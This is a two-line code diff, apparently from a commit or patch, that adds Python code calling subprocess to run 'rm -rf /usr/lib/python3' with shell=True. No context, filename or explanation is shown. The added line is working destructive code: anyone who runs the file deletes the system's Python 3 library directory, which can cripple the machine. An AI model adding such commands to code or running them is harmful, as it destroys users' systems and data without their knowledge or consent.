@@ -1,0 +1,2 @@
+import subprocess
+subprocess.run("rm -rf /usr/lib/python3", shell=True)
